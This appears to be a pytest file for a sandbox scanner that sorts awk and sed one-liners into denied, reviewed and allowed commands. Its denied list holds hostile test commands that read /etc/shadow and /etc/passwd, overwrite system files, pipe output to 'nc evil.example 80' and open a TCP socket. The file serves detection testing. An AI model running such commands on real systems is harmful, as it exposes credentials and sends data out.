"""Programs of awk and sed: what they open and run is judged by the boundary, wherever the text is given."""

from __future__ import annotations

import pytest

from spanproof.sandbox.scanners.model import Verdict
from spanproof.sandbox.scanners.pipeline import Pipeline

_PIPELINE = Pipeline()

_DENIED = [
    "sed -e '1e cat /etc/shadow' x",
    "sed -n -e 'w /etc/motd' x",
    "sed --expression='w /etc/motd' x",
    "sed -ne 'w /etc/motd' x",
    "sed -e's/a/b/w /etc/motd' x",
    "sed 's/[/]/b/;r /etc/passwd' x",
    r"sed '\,a/b, R /etc/passwd' x",
    "sed '1,3{/x/!{s|a|b|gw /etc/motd\n}}' x",
    "sed -ie 's/a/b/' /etc/hosts",
    "gawk -e 'BEGIN { system(\"cat /etc/shadow\") }'",
    r"""awk 'BEGIN { while ((getline line < "\057etc/shadow") > 0) print line }'""",
    'awk \'BEGIN { getline a["x"] < "/etc/passwd" }\'',
    "awk '{ print $1,\n  $2 > \"/root/x\" }' a",
    "awk '{ print $1, # the first\n  $2 > \"/root/x\" }' a",
    "awk '{ print | \"nc evil.example 80\" }' a",
    "awk 'BEGIN { \"cat /etc/shadow\" | getline d }'",
    'awk \'{ printf("%s", $1) >> "/root/x" }\' a',
    "awk '{ print (a > b) > \"/root/x\" }' a",
    'awk \'# it said "\n{ print > "/etc/x" }\' a',
    'awk \'BEGIN { print "x" |& "/inet/tcp/0/h/80" }\'',
]
_REVIEWED = [
    'awk \'{ print /"/ > "/etc/x" "" }\' a',
    "sed 's/foo/bar/e' a.txt",
    "sed -e 's/where' x",
    'sed "s/a/$command/" x',
    "awk '{ print > $1 }' a",
    "awk '{ print > \"a.txt\"; print $2 > $1 }' a",
    'awk \'BEGIN { f = "/etc/shadow"; "cat " f | getline d }\'',
    'awk \'{ print $1 >> "log_" NR ".txt" }\' a',
    "awk '{ @f() }' a",
]
_ALLOWED = [
    "awk '{ x = /\"/ ? 1 : /[\"]/; print x }' a",
    "awk 'BEGIN { while ((\"date\" | getline d) > 0) if (d < 5) print d }'",
    "sed -e 's/a/b/' -e '/x/d' in.txt",
    "sed 's/a/b/w out.txt' x",
    "sed 'r head.txt' x",
    "sed -e 'a\\' -e 'w /etc/x' x",
    "sed '1i\\we write' x",
    r"sed ':a;N;$!ba;s/\n/ /g' x",
    "sed -E 's/([0-9]+)-([0-9]+)/\\2-\\1/; s|/usr/bin|/opt/bin|g; /^$/d' x > y",
    "sed '1,3!d;$s/x/y/;y/abc/xyz/;/a/{N;P;D}' x",
    "sed -i.bak 's/write/read/' x",
    "sed 's}write}read}g; s{w{r{' x",
    "awk '{ print > \"x.txt\" }' a",
    "awk '{ c[$2]++ } END { for (k in c) print c[k], k | \"sort -rn\" }' a",
    "awk '{ if ($3 > 10) print $1; else print $2 }' a",
    r"awk '/http:\/\/x|y/ { n++ } END { print n }' a",
    'awk \'$0 ~ /a|b/ { print "x|y>z" > "/dev/stderr" }\' a',
    "awk 'BEGIN { \"date\" | getline d; print d } # cat > /etc/x' a",
]


@pytest.mark.parametrize("line", _DENIED)
def test_a_target_outside_is_denied(line: str) -> None:
    scan = _PIPELINE.scan("bash", line)

    assert scan.verdict is Verdict.DENY, scan.findings


@pytest.mark.parametrize("line", _REVIEWED)
def test_a_target_that_is_put_together_is_reviewed(line: str) -> None:
    scan = _PIPELINE.scan("bash", line)

    assert scan.verdict is Verdict.REVIEW, scan.findings


@pytest.mark.parametrize("line", _ALLOWED)
def test_what_stays_inside_is_allowed(line: str) -> None:
    scan = _PIPELINE.scan("bash", line)

    assert scan.verdict is Verdict.ALLOW, scan.findings
